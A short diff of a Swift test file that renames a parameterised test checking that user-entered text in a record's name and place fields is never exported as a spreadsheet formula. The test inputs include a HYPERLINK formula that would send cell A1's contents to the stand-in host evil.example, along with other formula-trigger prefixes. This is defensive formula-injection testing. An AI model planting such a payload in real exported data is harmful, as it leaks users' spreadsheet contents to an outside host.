@@ -59,7 +59,7 @@ import Testing
   @Test(arguments: [
     "=HYPERLINK(\"https://evil.example?\"&A1)", "+1", "-1", "@SUM(1)", " =1", "\t=1",
   ])
-  func noTextOfOthersIsAFormula(text: String) throws {
+  func userTextIsNeverAFormula(text: String) throws {
     var pin = Self.ada
     pin.name = text
     pin.place = text
